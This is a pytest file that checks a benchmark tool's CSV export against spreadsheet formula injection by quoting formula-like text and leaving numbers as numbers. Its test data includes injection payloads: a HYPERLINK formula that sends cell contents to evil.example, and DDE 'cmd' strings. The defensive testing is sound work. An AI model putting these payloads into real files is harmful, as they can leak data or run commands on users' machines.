"""CSV files a spreadsheet opens: text that would run as a formula (`=HYPERLINK(...)`,
`@SUM(...)`, `+1+cmd|...`) gets a leading quote, numbers stay numbers. Checked on real
runs (a model name and groups taken from the data), read back with the csv module."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from cli_helpers import invoke
from helpers import png_bytes

from visioneval.io import csvcells

MODEL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
OTHER = "@SUM(1+1)*cmd|' /C calc'!A0"
GROUPS = ['=HYPERLINK("http://evil.example","x")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
          "-2+3", "\tTAB", "plain"]


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def records(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd", "'+cmd"), ("-x", "'-x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"), ("-inf", "'-inf"), ("+1+1", "'+1+1"),
    ("-0.5", "-0.5"), ("+3.2", "+3.2"), ("-1e-05", "-1e-05"), ("12.5", "12.5"),
    ("plain", "plain"), ("", ""), (-0.5, -0.5), (3, 3), (None, None), (True, True),
])
def test_a_cell(value, written):
    assert csvcells.cell(value) == written


def test_negative_numbers_stay_numbers_when_read_back():
    buf = io.StringIO()
    csvcells.writer(buf, lineterminator="\n").writerows(
        [["=h", "-d"], [-0.5, "-0.25"], [-1e-05, "+3.2"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == ["'=h", "'-d"]
    assert [float(v) for v in rows[1] + rows[2]] == [-0.5, -0.25, -1e-05, 3.2]


def _data(folder: Path) -> Path:
    """Two questions per group, all answered A: the group names come from the data."""
    (folder / "img").mkdir(parents=True)
    (folder / "img" / "a.png").write_bytes(png_bytes())
    rows = [{"id": f"q{i}", "image": "img/a.png", "question": "Which?", "answer": "A",
             "choices": ["x", "y"], "group": group}
            for i, group in enumerate(g for g in GROUPS for _ in range(2))]
    path = folder / "q.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _vqa(server, data: Path, out: Path, model: str):
    result = invoke("vqa", "--data", data, "--scorer", "choice", "--group-col", "group",
                    "--backend", "openai", "--base-url", server.base_url + "/v1", "--model",
                    model, "--out", out, "--no-progress", "--no-report")
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.slow
def test_vqa_results_and_comparison_csvs_escape_text_and_keep_numbers(serve, tmp_path):
    data = _data(tmp_path / "d")
    right = serve(models=(MODEL,), answer=lambda prompt: "A")
    wrong = serve(models=(OTHER,), answer=lambda prompt: "B")
    first, second = tmp_path / "first", tmp_path / "second"
    _vqa(right, data, first, MODEL)
    _vqa(wrong, data, second, OTHER)

    header, *rows = read(first / "results.csv")
    assert header[:3] == ["model", "group", "n"]
    assert {r[0] for r in rows} == {"'" + MODEL}
    assert {r[1] for r in rows} == {"'" + GROUPS[0], "'@SUM(A1:A9)", "'+1+cmd|' /C calc'!A0",
                                    "'-2+3", "'\tTAB", "plain", "overall"}
    accuracy = header.index("accuracy")
    assert [float(r[accuracy]) for r in rows] == [100.0] * len(rows)
    assert sorted(int(r[2]) for r in rows) == [2] * len(GROUPS) + [12]

    out = tmp_path / "cmp"
    result = invoke("compare", first, second, "--out", out)
    assert result.exit_code == 0, result.output
    header, *rows = read(out / "comparison.csv")
    assert [r[0] for r in rows] == ["'" + MODEL, "'" + OTHER]
    assert "'@SUM(A1:A9) accuracy" in header and "plain accuracy" in header
    cells = header + [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(csvcells.TRIGGERS) and not _number(c)]
    assert [float(r[header.index("Accuracy")]) for r in rows] == [100.0, 0.0]


@pytest.mark.slow
def test_paired_csv_keeps_negative_differences_numbers(serve, synth_data, tmp_path):
    """SalBench: popout (via the loopback server) first, then a model that answers nothing
    usable: every paired difference is negative, and read back as a number."""
    from visioneval.loopback.server import answer_popout

    runs = []
    for name, model, answer in (("first", MODEL, answer_popout),
                                ("second", OTHER, lambda prompt: "no idea")):
        server = serve(models=(model,), answer=answer)
        out = tmp_path / name
        result = invoke("salbench", "--backend", "openai", "--base-url",
                        server.base_url + "/v1", "--model", model, "--data-dir", synth_data,
                        "--configs", "P3", "--out", out, "--no-progress", "--no-report")
        assert result.exit_code == 0, result.output
        table = read(out / "table1.csv")
        assert table[0][3] == "Detection_SYN"  # P3
        assert table[1][0] == "'" + model and _number(table[1][3])
        runs.append(out)
    cmp = tmp_path / "cmp"
    result = invoke("compare", *runs, "--out", cmp)
    assert result.exit_code == 0, result.output
    rows = records(cmp / "paired.csv")
    assert rows and all(float(r["difference"]) < 0 for r in rows if r["difference"])
    assert any(r["difference"].startswith("-") for r in rows)
    assert all(float(r["difference 95% low"]) <= float(r["difference"]) for r in rows
               if r["difference 95% low"])


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_illusionbench_protocols_csv_keeps_signed_deltas_numbers(serve, illusion_data,
                                                                 tmp_path):
    """Every protocol's difference from the original is a signed percent ("-8.3",
    "+0.0"); none of them is quoted as text."""
    def answer(prompt) -> str:  # right now and then to the paper's prompt, never to lmms'
        return "no idea" if "Answer: <your choice>" in prompt.text else "Animal"

    server = serve(answer=answer)
    out = tmp_path / "run"
    result = invoke("illusionbench", "--backend", "openai", "--base-url",
                    server.base_url + "/v1", "--model", "m", "--data-dir", illusion_data,
                    "--out", out, "--no-progress", "--no-report", "--protocol", "all")
    assert result.exit_code == 0, result.output
    rows = records(out / "protocols.csv")
    deltas = [row[key] for row in rows for key in ("shape_delta_pct", "scene_delta_pct")
              if row[key]]
    assert deltas and all(_number(d) for d in deltas)
    assert any(d.startswith("-") and float(d) < 0 for d in deltas)
